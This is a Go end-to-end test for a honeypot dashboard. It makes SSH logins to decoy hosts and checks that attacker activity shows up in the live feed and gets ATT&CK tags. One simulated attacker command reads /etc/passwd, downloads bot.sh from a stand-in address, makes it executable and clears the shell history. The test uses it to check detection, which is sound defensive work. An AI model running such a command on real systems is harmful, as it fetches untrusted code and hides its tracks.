package app

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"github.com/decnet/decnet/internal/model"
	"github.com/decnet/decnet/internal/testenv"
)

// chromiumPath is Debian's Chromium, which .ci/run installs; playwright's
// own browser download does not work on these machines.
const chromiumPath = "/usr/bin/chromium"

// TestDashboardEndToEndInChromium runs web/e2e/run.mjs in headless Chromium
// against a real `decnet up` with the demo fleet and a generated admin
// password: login with the forced change, an SSH login made during the run
// appearing in the live feed, and attacker detail → technique → inspector
// evidence → Escape, by mouse and by keyboard alone, with no console error.
func TestDashboardEndToEndInChromium(t *testing.T) {
	if testing.Short() {
		t.Skip("browser end-to-end; skipped in -short")
	}
	if _, err := os.Stat(chromiumPath); err != nil {
		testenv.Missing(t, "Chromium not installed at "+chromiumPath+" (apt-get install chromium)")
		return
	}
	web := testenv.WebDir(t)
	node := testenv.Binary(t, "node")

	cfg := testConfig(t, nil)
	cfg.AdminPassword = "" // generated and printed once, so the change is forced
	out := &syncBuffer{}
	a := startAppWith(t, cfg, Options{Out: out, DemoSubnet: "127.79.9.0/24"})
	var password string
	for _, line := range strings.Split(out.String(), "\n") {
		if p, ok := strings.CutPrefix(line, "Admin password: "); ok {
			password = p
		}
	}
	if password == "" || !strings.Contains(out.String(), "Dashboard: "+a.DashboardURL()) {
		t.Fatalf("startup output lacks the dashboard URL or the generated password:\n%s", out)
	}
	sts, err := a.fleet.Status(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var decky string
	for _, st := range sts {
		if st.Name == "linux-server-01" {
			decky = net.JoinHostPort(st.IP, "22")
		}
	}
	if decky == "" {
		t.Fatalf("demo fleet has no linux-server-01: %+v", sts)
	}
	sshLogin := func(src string) *gossh.Client {
		c, err := sshFrom(t, src, decky, &gossh.ClientConfig{
			User: "root", Auth: []gossh.AuthMethod{gossh.Password("admin")},
			HostKeyCallback: gossh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second,
		})
		if err != nil {
			t.Fatalf("ssh from %s: %v", src, err)
		}
		return c
	}

	// An attacker with ATT&CK tags before the browser starts: the wget
	// becomes T1105 with the command as evidence.
	const attackerIP, liveIP = "127.80.9.11", "127.80.9.12"
	c := sshLogin(attackerIP)
	run(t, c, `cat /etc/passwd; wget http://198.51.100.7/bot.sh; chmod +x bot.sh; history -c`)
	c.Close()
	attacker := waitAttackerSettled(t, a.Store(), attackerIP)
	checkFor(t, 30*time.Second, func() error {
		rows, err := a.Store().ListTechniquesByAttacker(context.Background(), attacker.UUID)
		if err != nil {
			return err
		}
		if !slices.ContainsFunc(rows, func(r model.TechniqueRollup) bool { return r.TechniqueID == "T1105" }) {
			return fmt.Errorf("T1105 not tagged yet: %+v", rows)
		}
		return nil
	})

	shots := filepath.Join(web, "e2e", "screenshots")
	cmd := exec.Command(node, filepath.Join("e2e", "run.mjs"))
	cmd.Dir = web
	cmd.Env = append(os.Environ(),
		"DECNET_E2E_URL="+a.DashboardURL(),
		"DECNET_E2E_PASSWORD="+password,
		"DECNET_E2E_NEW_PASSWORD=e2e-new-long-passphrase",
		"DECNET_E2E_ATTACKER_IP="+attackerIP,
		"DECNET_E2E_TECHNIQUE=T1105",
		"DECNET_E2E_EVIDENCE=wget http://198.51.100.7/bot.sh",
		"CHROMIUM="+chromiumPath,
		"DECNET_E2E_SCREENSHOTS="+shots,
	)
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var stderr strings.Builder
	cmd.Stderr = &stderr
	started := time.Now()
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// A hung browser must not hang the suite.
	timer := time.AfterFunc(4*time.Minute, func() { _ = cmd.Process.Kill() })
	defer timer.Stop()

	var log strings.Builder
	sc := bufio.NewScanner(stdout)
	for sc.Scan() {
		line := sc.Text()
		log.WriteString(line + "\n")
		switch {
		case line == "READY_FOR_SSH":
			// The login the live feed must show, made while it is open.
			c := sshLogin(liveIP)
			run(t, c, "uname -a")
			c.Close()
			if _, err := io.WriteString(stdin, "SSH_DONE "+liveIP+"\n"); err != nil {
				t.Fatal(err)
			}
		case strings.HasPrefix(line, "TIMINGS "), strings.HasPrefix(line, "FIRST_PAGE_JS "):
			t.Log(line)
		}
	}
	err = cmd.Wait()
	t.Logf("browser run took %s; screenshots in %s", time.Since(started).Round(time.Millisecond), shots)
	if err != nil || !strings.Contains(log.String(), "E2E PASS") {
		t.Fatalf("e2e run failed: %v\nstdout:\n%s\nstderr:\n%s", err, log.String(), stderr.String())
	}
}
